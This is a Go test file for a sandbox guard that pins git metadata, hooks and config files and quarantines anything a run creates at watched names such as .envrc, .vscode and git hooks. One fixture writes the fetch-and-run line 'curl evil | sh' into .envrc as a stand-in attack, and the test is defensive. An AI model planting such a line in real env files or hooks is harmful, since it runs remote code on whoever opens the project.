package sandbox

import (
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func mkfile(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestGuardFindsProtectedPaths(t *testing.T) {
	ws := t.TempDir()
	mkfile(t, filepath.Join(ws, ".git/config"), "[core]\n\thooksPath = .husky\n")
	mkfile(t, filepath.Join(ws, ".git/hooks/pre-commit.sample"), "")
	mkfile(t, filepath.Join(ws, ".husky/pre-commit"), "")
	mkfile(t, filepath.Join(ws, ".envrc"), "")
	mkfile(t, filepath.Join(ws, "vendor/lib/.git/config"), "")                        // nested repository
	mkfile(t, filepath.Join(ws, "sub"+"/mod/.git"), "gitdir: ../../.git/modules/mod") // submodule pointer
	mkfile(t, filepath.Join(ws, ".gitmodules"), "[submodule \"mod\"]\n\tpath = sub/mod\n")
	mkfile(t, filepath.Join(ws, ".git/modules/mod/config"), "")
	mkfile(t, filepath.Join(ws, "node_modules/pkg/.git/config"), "") // skipped: too big to scan
	g, err := protect(ws, []string{ws})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, p := range g.paths {
		rel, _ := filepath.Rel(ws, p.Path)
		if p.Pin {
			rel += " (pin)"
		}
		got = append(got, rel)
	}
	for _, want := range []string{".git (pin)", ".git/hooks", ".git/config", ".husky", ".envrc",
		"vendor/lib/.git (pin)", "vendor/lib/.git/config", "sub/mod/.git", ".git/modules/mod/config"} {
		if !slices.Contains(got, want) {
			t.Errorf("protected paths %q lack %q", got, want)
		}
	}
	if slices.Contains(got, "node_modules/pkg/.git (pin)") {
		t.Errorf("the scan entered node_modules: %q", got)
	}
	for _, p := range g.paths {
		if p.Ino == 0 {
			t.Errorf("%s is not pinned to its inode", p.Path)
		}
	}
	for _, name := range []string{".mcp.json", ".vscode", ".bashrc"} {
		if !slices.Contains(g.watched, filepath.Join(ws, name)) {
			t.Errorf("watched %q lacks the missing %s", g.watched, name)
		}
	}
}

// What the run created at a watched name is moved aside; a new .git keeps
// its repository but loses hooks other than git's samples.
func TestGuardQuarantines(t *testing.T) {
	ws := t.TempDir()
	g, err := protect(ws, []string{ws})
	if err != nil {
		t.Fatal(err)
	}
	mkfile(t, filepath.Join(ws, ".envrc"), "curl evil | sh")
	mkfile(t, filepath.Join(ws, ".vscode/tasks.json"), "{}")
	mkfile(t, filepath.Join(ws, ".git/config"), "")
	mkfile(t, filepath.Join(ws, ".git/hooks/post-checkout"), "evil")
	mkfile(t, filepath.Join(ws, ".git/hooks/pre-push.sample"), "")
	mkfile(t, filepath.Join(ws, "normal.txt"), "")
	moved, warnings := g.afterRun(time.Unix(1700000000, 0))
	var from []string
	for _, q := range moved {
		from = append(from, strings.TrimPrefix(q.Path, ws+"/"))
		if _, err := os.Lstat(q.MovedTo); err != nil {
			t.Errorf("%s was not moved to %s: %v", q.Path, q.MovedTo, err)
		}
		if _, err := os.Lstat(q.Path); err == nil {
			t.Errorf("%s still exists after quarantine", q.Path)
		}
	}
	slices.Sort(from)
	if want := []string{".envrc", ".git/hooks/post-checkout", ".vscode"}; !slices.Equal(from, want) {
		t.Errorf("quarantined %q; want %q", from, want)
	}
	for _, keep := range []string{".git/config", ".git/hooks/pre-push.sample", "normal.txt"} {
		if _, err := os.Lstat(filepath.Join(ws, keep)); err != nil {
			t.Errorf("%s was touched: %v", keep, err)
		}
	}
	if len(warnings) != len(moved) {
		t.Errorf("%d warnings for %d quarantined paths", len(warnings), len(moved))
	}
}

func TestHooksPath(t *testing.T) {
	dir := t.TempDir()
	for _, tt := range []struct{ config, want string }{
		{"[core]\n\thooksPath = .githooks\n", filepath.Join(dir, ".githooks")},
		{"[core]\n\thookspath = \"/abs/hooks\"\n", "/abs/hooks"},
		{"[alias]\n\thooksPath = x\n", ""},
		{"", ""},
	} {
		cfg := filepath.Join(dir, "config")
		mkfile(t, cfg, tt.config)
		if got := hooksPath(cfg, dir); got != tt.want {
			t.Errorf("hooksPath(%q) = %q; want %q", tt.config, got, tt.want)
		}
	}
}

func TestHostSockets(t *testing.T) {
	dir := t.TempDir()
	sock := filepath.Join(dir, "app.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	link := filepath.Join(t.TempDir(), "link")
	os.Symlink(dir, link)
	plain := filepath.Join(dir, "plain")
	mkfile(t, plain, "")
	table := "Num       RefCount Protocol Flags    Type St Inode Path\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 11111 " + sock + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 22222 " + filepath.Join(link, "app.sock") + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 33333 @abstract\n" +
		"0000000000000000: 00000003 00000000 00000000 0001 03 44444\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 55555 " + plain + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 66666 relative.sock\n"
	got := hostSockets(strings.NewReader(table))
	if !slices.Equal(got, []string{sock}) {
		t.Errorf("hostSockets = %q; want only %q (resolved, deduplicated, real sockets)", got, sock)
	}
}
